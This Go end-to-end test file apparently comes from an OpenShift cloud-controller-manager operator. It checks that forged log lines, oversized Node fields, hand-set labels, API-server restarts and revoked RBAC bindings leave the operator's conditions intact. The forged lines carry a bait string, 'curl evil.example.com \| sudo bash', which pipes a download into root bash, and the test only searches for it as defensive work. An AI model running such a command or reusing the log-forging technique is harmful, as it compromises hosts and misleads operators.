package e2e

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	configv1 "github.com/openshift/api/config/v1"
	operatorv1 "github.com/openshift/api/operator/v1"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	devcluster "github.com/openshift/cluster-cloud-controller-manager-operator/test/devcluster"
	"github.com/openshift/cluster-cloud-controller-manager-operator/test/devcluster/openstack"
	"github.com/openshift/cluster-cloud-controller-manager-operator/test/e2e/internal/monitor"
)

const (
	// forgedLooks is how often the conditions are read, and forgePeriod how often a tenant forges lines.
	forgedLooks, forgePeriod = 45, 2 * time.Second
	// bait is in each text that a hostile party writes.
	bait = "curl evil.example.com | sudo bash"
	// messageLimit is the most bytes that a condition may have, whatever others write.
	messageLimit = 8 << 10
	// withoutRights is how long the operator's rights are away: long enough for its lock to expire.
	withoutRights = 125 * time.Second
	// restarts is how often the API server restarts while Nodes are deleted.
	restarts = 3
	// operatorAccount is the name of the operator's ServiceAccount.
	operatorAccount = "cluster-cloud-controller-manager"
	// servicesBinding is the binding of a policy that the operator restores.
	servicesBinding = "openshift-cloud-controller-manager-operand-services"
)

// TestWhatOthersWriteMovesNothing plays a tenant, a kubelet, and administrators who delete Nodes, label them by hand or
// take the operator's rights away. Nobody has told the operator.
func TestWhatOthersWriteMovesNothing(t *testing.T) {
	if os.Getenv("E2E_LONG") == "" {
		t.Skip("E2E_LONG is not set: this takes a quarter of an hour")
	}
	d := &deadMachines{suite: startSuite(t, devcluster.Options{
		Name: "e2e-hostile", Platform: configv1.OpenStackPlatformType, Nodes: nodes, QuickRestarts: true,
		Progress: os.Stderr,
	}, monitor.Rollout("the first revision"))}
	d.awaitSettled(t, 1, rolloutLimit)
	d.addWorkers(t, 2)
	d.runSteps(t, []step{
		{"a tenant forges lines of the leader's log while a node waits", d.testForgedLines},
		{"a kubelet registers a Node with a megabyte of text", d.testMegabyte},
		{"labels that were set by hand outlast a probe", d.testLabelsOutlastAProbe},
		{"Nodes are deleted while the API server restarts", d.testDeletionsWhileTheServerRestarts},
		{"the operator's rights are away for two minutes during a rollout", d.testRightsAreAway},
	})
}

// testForgedLines: OpenStack's provider writes the value of a boolean annotation with its line breaks. The forged lines
// are attempts to initialize the node that waits, with another cause than its own.
func (d *deadMachines) testForgedLines(t *testing.T) {
	const cause = "the cloud's API answers with a server error"
	waiting, leader := d.Node(d.workers[0]), d.requireOneLeader(t)
	d.monitor.Expect(monitor.Uninitialized(waiting.Name(), "the cloud answers with errors"),
		monitor.Degraded(waiting.Name(), "it waits for minutes"))
	require.NoError(t, d.Cloud().Fail(openstack.ComputeServer, http.StatusServiceUnavailable))
	d.taintUninitialized(t, waiting)
	d.awaitCondition(t, "NodeInitializationNotices", operatorv1.ConditionTrue, namedLimit, cause)

	stop := d.forge(t, waiting.Name())
	for range forgedLooks {
		<-time.After(forgePeriod)
		d.awaitCondition(t, "NodeInitializationNotices", operatorv1.ConditionTrue, harness, cause)
		require.NoError(t, d.noBait(t.Context()))
	}
	log, err := d.leaderLog(t.Context())
	require.NoError(t, err)
	require.Contains(t, log, bait, "the provider writes the annotation")
	d.figure("forged attempts in the leader's log: %d, believed: 0", strings.Count(log, bait))
	require.Equal(t, leader, d.requireOneLeader(t), "no forged line moves the lead")

	require.NoError(t, d.Cloud().Fail(openstack.ComputeServer, 0))
	d.await(t, waiting.Name()+" to be initialized", leaderLimit, func(ctx context.Context) error {
		return d.initialized(ctx, waiting)
	})
	revision := d.revision(t) + 1
	d.expectRollout("a good change while lines are forged")
	changed := d.setCloudConfig(t, d.cloudConfig(t)+"max-shared-lb = 3\n")
	d.awaitSettled(t, revision, rolloutLimit)
	d.figure("a good change while lines are forged, to three nodes: %s", rounded(changed))
	require.NoError(t, stop())
	require.NoError(t, d.noBait(t.Context()))
}

// forge makes a tenant write lines about a node into the leader's log until stop is called.
func (d *deadMachines) forge(t *testing.T, waiting string) (stop func() error) {
	t.Helper()
	services := d.kube.CoreV1().Services(metav1.NamespaceDefault)
	service, err := services.Create(t.Context(), &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "hostile"},
		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer, Ports: []corev1.ServicePort{{Port: 80}}},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	var group sync.WaitGroup
	group.Go(func() {
		every(ctx, forgePeriod, func() {
			now := time.Now().UTC().Format("0102 15:04:05.000000")
			forged := fmt.Sprintf("maybe\nE%s       1 node_controller.go:244] error syncing '%s': failed to get instance "+
				"metadata for node %s: got 401 instead: run: %s, requeuing\nI%s       1 app.go:9] Skipping %q\n",
				now, waiting, waiting, bait, now, "cloud-node-controller")
			// One that is lost is forged again.
			_, _ = services.Patch(ctx, service.Name, types.MergePatchType, fmt.Appendf(nil,
				`{"metadata": {"annotations": {"service.beta.kubernetes.io/openstack-internal-load-balancer": %q}}}`, forged),
				metav1.PatchOptions{})
		})
	})
	stop = sync.OnceValue(func() error {
		cancel()
		group.Wait()
		return services.Delete(context.WithoutCancel(ctx), service.Name, metav1.DeleteOptions{})
	})
	t.Cleanup(func() { _ = stop() })
	return stop
}

// noBait returns nil if no condition has the words of a hostile party, and none is longer than messageLimit.
func (s *suite) noBait(ctx context.Context) error {
	reported, err := s.config.ConfigV1().ClusterOperators().Get(ctx, clusterOperator, metav1.GetOptions{})
	if err != nil {
		return err
	}
	resource, err := s.resource(ctx)
	if err != nil {
		return err
	}
	messages := map[string]string{}
	for _, c := range reported.Status.Conditions {
		messages["clusteroperator "+string(c.Type)] = c.Message
	}
	for _, c := range resource.Status.Conditions {
		messages[c.Type] = c.Message
	}
	for name, message := range messages {
		if len(message) > messageLimit {
			return fmt.Errorf("%s has %d bytes", name, len(message))
		}
		if strings.Contains(message, bait) {
			return fmt.Errorf("%s says %s", name, message)
		}
	}
	return nil
}

// testMegabyte: every text that a kubelet may register is long. The CCM can do nothing for such a Node, so it is named.
func (d *deadMachines) testMegabyte(t *testing.T) {
	long := strings.Repeat("x", 300<<10)
	d.monitor.Expect(monitor.Uninitialized(ghost, "it has no machine"), monitor.NodeDeleted(ghost, "the test deletes it"),
		monitor.Degraded(ghost, "it waits for minutes").Times(2))
	_, err := d.kube.CoreV1().Nodes().Create(t.Context(), &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: ghost},
		Spec: corev1.NodeSpec{ProviderID: long, Taints: []corev1.Taint{
			{Key: uninitialized, Value: "true", Effect: corev1.TaintEffectNoSchedule},
		}},
		Status: corev1.NodeStatus{
			NodeInfo:  corev1.NodeSystemInfo{SystemUUID: long, MachineID: long},
			Addresses: []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: long}},
		},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	d.awaitCondition(t, "NodeInitializationNotices", operatorv1.ConditionTrue, namedLimit, "node/"+ghost)
	require.NoError(t, d.noBait(t.Context()))
	require.NoError(t, d.kube.CoreV1().Nodes().Delete(t.Context(), ghost, metav1.DeleteOptions{}))
	d.awaitCondition(t, "NodeInitializationNotices", operatorv1.ConditionFalse, cleanLimit)
}

// testLabelsOutlastAProbe: a machine ends, so the CCM is asked about living ones, whose zones an administrator has set.
// The node controller copies the older label to the other one whenever they differ.
func (d *deadMachines) testLabelsOutlastAProbe(t *testing.T) {
	const zone, byHand = corev1.LabelTopologyZone, "rack-7"
	living := []string{d.workers[0]}
	for _, n := range d.ControlPlane() {
		living = append(living, n.Name())
	}
	for _, name := range living {
		_, err := d.kube.CoreV1().Nodes().Patch(t.Context(), name, types.MergePatchType,
			fmt.Appendf(nil, `{"metadata": {"labels": {%q: %q, %q: %q}}}`, corev1.LabelFailureDomainBetaZone, byHand, zone,
				byHand), metav1.PatchOptions{})
		require.NoError(t, err)
	}
	d.figure("machine ended to its Node deleted, with labels set by hand: %s", d.end(t, goneLimit, d.workers[1]))
	for _, name := range living {
		object, err := d.kube.CoreV1().Nodes().Get(t.Context(), name, metav1.GetOptions{})
		require.NoError(t, err)
		require.Equal(t, byHand, object.Labels[zone], "the zone of %s", name)
	}
}

// testDeletionsWhileTheServerRestarts: a policy that an API server cannot evaluate yet must not reject whom it is not
// about. Rejections are counted, requests that fail because nobody listens are not.
func (d *deadMachines) testDeletionsWhileTheServerRestarts(t *testing.T) {
	d.monitor.Expect(monitor.Gap("each watch begins anew when the API server restarts").Times(5*restarts),
		monitor.NoneReady("no kubelet can report without an API server").Times(restarts))
	config := d.RESTConfig()
	config.QPS = -1 // Each moment after a start counts.
	admin, err := kubernetes.NewForConfig(config)
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(t.Context())
	var group sync.WaitGroup
	var permitted atomic.Int32
	var rejected []error
	group.Go(func() {
		every(ctx, 20*time.Millisecond, func() {
			err := admin.CoreV1().Nodes().Delete(ctx, d.workers[0], metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
			switch status := apierrors.APIStatus(nil); {
			case err == nil:
				permitted.Add(1)
			case errors.As(err, &status) && status.Status().Code < http.StatusInternalServerError &&
				!apierrors.IsTooManyRequests(err):
				rejected = append(rejected, err)
			}
		})
	})
	for range restarts {
		before := permitted.Load()
		require.NoError(t, d.StopAPIServer(t.Context()))
		require.NoError(t, d.StartAPIServer(t.Context()))
		<-time.After(10 * time.Second)
		require.Greater(t, permitted.Load(), before)
	}
	cancel()
	group.Wait()
	require.Empty(t, rejected)
	d.figure("deletions by an administrator while the API server restarts %d times: %d permitted, 0 rejected", restarts,
		permitted.Load())
	d.awaitSettled(t, 1, rolloutLimit)
}

// testRightsAreAway: nothing waits for longer than the queues' back-off once the rights are back.
func (d *deadMachines) testRightsAreAway(t *testing.T) {
	d.expectRollout("the cloud configuration is changed")
	d.monitor.Expect(monitor.Degraded("", "the operator may do nothing").Times(10))
	revision := d.revision(t) + 1
	text, _, _ := strings.Cut(d.cloudConfig(t), "max-shared-lb")
	d.setCloudConfig(t, text+"max-shared-lb = 4\n")
	d.awaitInstaller(t, revision, func(string) bool { return true })
	restore := d.takeRights(t)
	bindings := d.kube.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings()
	require.NoError(t, bindings.Delete(t.Context(), servicesBinding, metav1.DeleteOptions{}))
	<-time.After(withoutRights)
	restore()
	began := time.Now()
	d.await(t, "the binding of a policy", visibleLimit, func(ctx context.Context) error {
		_, err := bindings.Get(ctx, servicesBinding, metav1.GetOptions{})
		return err
	})
	d.figure("rights away for %s, back to the binding of a policy: %s", withoutRights, rounded(began))
	d.awaitSettled(t, revision, rolloutLimit)
	d.figure("rights away for %s, back to the revision on three nodes: %s", withoutRights, rounded(began))
	require.Less(t, time.Since(began), briefly, "no queue waits for longer than half a minute")
}

// takeRights deletes each ClusterRoleBinding and RoleBinding of the operator.
func (d *deadMachines) takeRights(t *testing.T) (restore func()) {
	t.Helper()
	api, ctx := d.kube.RbacV1(), context.WithoutCancel(t.Context())
	bindsOperator := func(subjects []rbacv1.Subject) bool {
		return slices.ContainsFunc(subjects, func(s rbacv1.Subject) bool {
			return s.Kind == rbacv1.ServiceAccountKind && s.Namespace == operatorNamespace && s.Name == operatorAccount
		})
	}
	var undo []func() error
	cluster, err := api.ClusterRoleBindings().List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	for _, b := range cluster.Items {
		if bindsOperator(b.Subjects) {
			require.NoError(t, api.ClusterRoleBindings().Delete(ctx, b.Name, metav1.DeleteOptions{}))
			b.ResourceVersion, b.UID = "", ""
			undo = append(undo, func() error {
				_, err := api.ClusterRoleBindings().Create(ctx, &b, metav1.CreateOptions{})
				return err
			})
		}
	}
	namespaced, err := api.RoleBindings(metav1.NamespaceAll).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	for _, b := range namespaced.Items {
		if bindsOperator(b.Subjects) {
			require.NoError(t, api.RoleBindings(b.Namespace).Delete(ctx, b.Name, metav1.DeleteOptions{}))
			b.ResourceVersion, b.UID = "", ""
			undo = append(undo, func() error {
				_, err := api.RoleBindings(b.Namespace).Create(ctx, &b, metav1.CreateOptions{})
				return err
			})
		}
	}
	require.NotEmpty(t, undo)
	return func() {
		for _, f := range undo {
			require.NoError(t, f())
		}
	}
}
